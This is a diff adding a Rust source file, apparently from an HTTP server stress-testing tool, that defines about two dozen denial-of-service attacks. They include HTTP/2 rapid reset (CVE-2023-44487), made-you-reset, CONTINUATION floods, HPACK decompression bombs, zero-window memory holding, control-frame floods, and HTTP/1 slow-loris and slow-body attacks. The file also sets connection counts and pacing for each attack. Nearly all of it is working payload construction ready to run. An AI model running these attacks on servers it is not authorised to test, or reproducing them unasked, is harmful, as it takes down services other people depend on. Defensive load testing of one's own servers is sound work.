@@ -1,0 +1,234 @@
+//! The attacks: what each of them sends.
+
+use super::wire::*;
+
+/// What one connection of an attack sends in one turn.
+pub enum Turn {
+    /// These bytes.
+    Send(Vec<u8>),
+    /// Nothing more: the connection stays as it is.
+    Stay,
+}
+
+/// An attack on a server.
+#[derive(Clone, Copy)]
+pub struct Attack {
+    /// Its name, as `--only` takes it.
+    pub name: &'static str,
+    /// What it does, with its CVE where it has one.
+    pub about: &'static str,
+    /// Whether it speaks HTTP/2.
+    pub is_http2: bool,
+    /// Connections at once.
+    pub connections: usize,
+    /// Whether the attacker reads what it is sent.
+    pub reads: bool,
+    /// Milliseconds between two turns of a connection; 0 for as fast as the server takes them.
+    pub pause_ms: u64,
+    /// What is sent in the turn of that number, from 0, after the preface and the settings of HTTP/2.
+    pub turn: fn(&AttackTarget, usize) -> Turn,
+}
+
+/// Frames sent together in a turn of a flood.
+const BATCH: usize = 100;
+/// Streams that most servers allow at once.
+const STREAMS: usize = 100;
+/// Bytes of the field that header blocks refer to again and again.
+const BOMB_BYTES: usize = 4_000;
+
+fn flood(frame: &[u8]) -> Turn {
+    Turn::Send(frame.repeat(BATCH))
+}
+
+/// A batch of requests, each followed by something.
+fn requests(turn: usize, request: impl Fn(u32) -> Vec<u8>) -> Turn {
+    Turn::Send((turn * BATCH..(turn + 1) * BATCH).flat_map(|at| request(stream(at))).collect())
+}
+
+/// `first` in the first turn, `rest` in all others.
+fn opens(turn: usize, first: impl FnOnce() -> Vec<u8>, rest: impl FnOnce() -> Turn) -> Turn {
+    if turn == 0 { Turn::Send(first()) } else { rest() }
+}
+
+fn many(count: usize, request: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
+    (0..count).flat_map(|at| request(stream(at))).collect()
+}
+
+/// A request with references to a large field, which the first request of the connection brings into the table.
+fn bomb(target: &AttackTarget, at: usize, references: usize) -> Vec<u8> {
+    let mut block = target.block(false);
+    if at == 0 {
+        indexed(&mut block, b"x", &[b'v'; BOMB_BYTES]);
+    }
+    block.extend(std::iter::repeat_n(0xbe, references));
+    frame(kind::HEADERS, END_STREAM | END_HEADERS, stream(at), &block)
+}
+
+/// A header block that makes the table small and large again, and fills it.
+fn churn(target: &AttackTarget, id: u32) -> Vec<u8> {
+    let mut block = vec![0x20, 0x3f, 0xe1, 0x1f];
+    block.extend(target.block(false));
+    indexed(&mut block, b"x", &[b'v'; BOMB_BYTES]);
+    frame(kind::HEADERS, END_STREAM | END_HEADERS, id, &block)
+}
+
+const fn http2(
+    name: &'static str,
+    about: &'static str,
+    (connections, reads, pause_ms): (usize, bool, u64),
+    turn: fn(&AttackTarget, usize) -> Turn,
+) -> Attack {
+    Attack { name, about, is_http2: true, connections, reads, pause_ms, turn }
+}
+
+const fn http1(
+    name: &'static str,
+    about: &'static str,
+    (connections, reads, pause_ms): (usize, bool, u64),
+    turn: fn(&AttackTarget, usize) -> Turn,
+) -> Attack {
+    Attack { name, about, is_http2: false, connections, reads, pause_ms, turn }
+}
+
+/// Connections of a flood, which sends as fast as it can.
+const FLOOD: (usize, bool, u64) = (4, true, 0);
+/// Connections of an attack that holds memory and reads nothing.
+const HOLD: (usize, bool, u64) = (50, false, 100);
+
+/// All attacks, those on HTTP/2 first.
+pub const ATTACKS: &[Attack] = &[
+    http2("rapid-reset", "requests that are reset at once (CVE-2023-44487)", FLOOD, |to, turn| {
+        requests(turn, |id| [to.get(id), rst_stream(id, 8)].concat())
+    }),
+    http2(
+        "made-you-reset",
+        "requests that the server is made to reset (CVE-2025-8671)",
+        FLOOD,
+        |to, turn| requests(turn, |id| [to.get(id), window_update(id, 0)].concat()),
+    ),
+    http2("continuation-flood", "a header block without end", FLOOD, |to, turn| {
+        let mut fields = Vec::new();
+        (0..1_000).for_each(|_| literal(&mut fields, b"a", b"b"));
+        let first = || frame(kind::HEADERS, END_STREAM, 1, &to.block(false));
+        opens(turn, first, || Turn::Send(frame(kind::CONTINUATION, 0, 1, &fields)))
+    }),
+    http2("empty-continuation", "CONTINUATION frames without a byte", FLOOD, |to, turn| {
+        let first = || frame(kind::HEADERS, END_STREAM, 1, &to.block(false));
+        opens(turn, first, || flood(&frame(kind::CONTINUATION, 0, 1, &[])))
+    }),
+    http2("hpack-bomb", "heads of 12 KB that unpack to 48 MB", FLOOD, |to, turn| {
+        Turn::Send(bomb(to, turn, 12_000))
+    }),
+    http2(
+        "indexed-references",
+        "small heads that unpack thousandfold, windows of 0 (CVE-2026-49975)",
+        (20, false, 1),
+        |to, turn| {
+            // Below the limit of a head, so that each is accepted; a window that never opens keeps what they hold.
+            opens(
+                turn,
+                || [settings(&[(INITIAL_WINDOW_SIZE, 0)]), bomb(to, 0, 2)].concat(),
+                || Turn::Send([bomb(to, turn, 3), window_update(0, 1)].concat()),
+            )
+        },
+    ),
+    http2("empty-data", "DATA frames without a byte (RUSTSEC-2026-0258)", FLOOD, |to, turn| {
+        opens(turn, || to.post(1), || flood(&frame(kind::DATA, 0, 1, &[])))
+    }),
+    http2("ping-flood", "PING frames", FLOOD, |_, _| flood(&frame(kind::PING, 0, 0, &[0; 8]))),
+    http2("unread-pings", "PING frames whose answers are not read", (4, false, 0), |_, _| {
+        flood(&frame(kind::PING, 0, 0, &[0; 8]))
+    }),
+    http2("settings-flood", "SETTINGS frames of many values", FLOOD, |_, _| {
+        Turn::Send(settings(&[(INITIAL_WINDOW_SIZE, 65_535); 100]).repeat(10))
+    }),
+    http2("priority-flood", "PRIORITY frames", FLOOD, |_, turn| {
+        Turn::Send(many(BATCH, |id| frame(kind::PRIORITY, 0, id + turn as u32 % 1_000 * 2, &[0, 0, 0, 0, 9])))
+    }),
+    http2("priority-update-flood", "PRIORITY_UPDATE frames for streams to come", FLOOD, |_, turn| {
+        let update = |id: u32| frame(kind::PRIORITY_UPDATE, 0, 0, &[&id.to_be_bytes()[..], b"u=1"].concat());
+        requests(turn, update)
+    }),
+    http2("window-update-flood", "WINDOW_UPDATE frames of one byte", FLOOD, |_, _| {
+        flood(&window_update(0, 1))
+    }),
+    http2("dripped-window", "responses that are allowed one byte at a time", (10, true, 20), |to, turn| {
+        let first = || [settings(&[(INITIAL_WINDOW_SIZE, 0)]), many(STREAMS, |id| to.get(id))].concat();
+        opens(turn, first, || Turn::Send(many(STREAMS, |id| window_update(id, 1))))
+    }),
+    http2("zero-window", "responses under windows that stay closed", HOLD, |to, turn| {
+        let first = || [settings(&[(INITIAL_WINDOW_SIZE, 0)]), many(STREAMS, |id| to.get(id))].concat();
+        opens(turn, first, || Turn::Stay)
+    }),
+    http2("unread-responses", "responses under the largest windows, not read", HOLD, |to, turn| {
+        let open = [settings(&[(INITIAL_WINDOW_SIZE, 0x7fff_ffff)]), window_update(0, 0x7fff_0000)].concat();
+        opens(turn, || [open, many(STREAMS, |id| to.get(id))].concat(), || Turn::Stay)
+    }),
+    http2("dribbled-bodies", "bodies that come byte by byte on all streams", (20, true, 50), |to, turn| {
+        let byte = |id| frame(kind::DATA, 0, id, b"x");
+        opens(turn, || many(STREAMS, |id| to.post(id)), || Turn::Send(many(STREAMS, byte)))
+    }),
+    http2("table-churn", "header blocks that empty and fill HPACK's table", FLOOD, |to, turn| {
+        Turn::Send((turn * 10..turn * 10 + 10).flat_map(|at| churn(to, stream(at))).collect())
+    }),
+    http2("table-size-flood", "SETTINGS that make the server's table small and large", FLOOD, |_, _| {
+        let sizes = [settings(&[(HEADER_TABLE_SIZE, 0)]), settings(&[(HEADER_TABLE_SIZE, 4_096)])];
+        flood(&sizes.concat())
+    }),
+    http2("goaway-races", "GOAWAY frames between requests that are reset", FLOOD, |to, turn| {
+        let leave = frame(kind::GOAWAY, 0, 0, &[0; 8]);
+        requests(turn, |id| [to.post(id), leave.clone(), rst_stream(id, 0), rst_stream(id, 8)].concat())
+    }),
+    http1("slow-loris", "heads that come byte by byte (HTTP/1)", (200, true, 100), |to, turn| {
+        opens(
+            turn,
+            || to.http1("GET").into_bytes(),
+            || Turn::Send(b"X: y\r\n"[(turn + 5) % 6..(turn + 5) % 6 + 1].to_vec()),
+        )
+    }),
+    http1("header-flood", "a head without end (HTTP/1)", FLOOD, |to, turn| {
+        opens(turn, || to.http1("GET").into_bytes(), || flood(b"X-Field-Of-A-Flood: 0123456789\r\n"))
+    }),
+    http1("slow-body", "bodies that come byte by byte (HTTP/1)", (200, true, 100), |to, turn| {
+        let head = || format!("{}Content-Length: 100000\r\n\r\n", to.http1("POST")).into_bytes();
+        opens(turn, head, || Turn::Send(b"x".to_vec()))
+    }),
+    http1("tiny-chunks", "a body in chunks of one byte (HTTP/1)", FLOOD, |to, turn| {
+        let head = || format!("{}Transfer-Encoding: chunked\r\n\r\n", to.http1("POST")).into_bytes();
+        opens(turn, head, || flood(b"1\r\nx\r\n"))
+    }),
+    http1(
+        "unread-pipeline",
+        "pipelined requests whose responses are not read (HTTP/1)",
+        (50, false, 0),
+        |to, _| Turn::Send(format!("{}\r\n", to.http1("GET")).repeat(10).into_bytes()),
+    ),
+];
+
+/// The attack of that name.
+///
+/// # Errors
+/// The names that there are.
+pub fn find(name: &str) -> Result<&'static Attack, String> {
+    ATTACKS.iter().find(|attack| attack.name == name).ok_or_else(|| {
+        let names: Vec<&str> = ATTACKS.iter().map(|attack| attack.name).collect();
+        format!("{name:?} is no attack; there are {}", names.join(", "))
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_attack_has_a_name_of_its_own_and_something_to_send() {
+        let target = AttackTarget { authority: "a".into(), path: "/".into(), is_https: false };
+        for attack in ATTACKS {
+            assert_eq!(find(attack.name).unwrap().about, attack.about);
+            assert_eq!(ATTACKS.iter().filter(|other| other.name == attack.name).count(), 1);
+            assert!(matches!((attack.turn)(&target, 0), Turn::Send(bytes) if !bytes.is_empty()));
+            let _ = (attack.turn)(&target, 12_345);
+        }
+        assert!(find("none").is_err_and(|error| error.contains("rapid-reset")));
+    }
+}
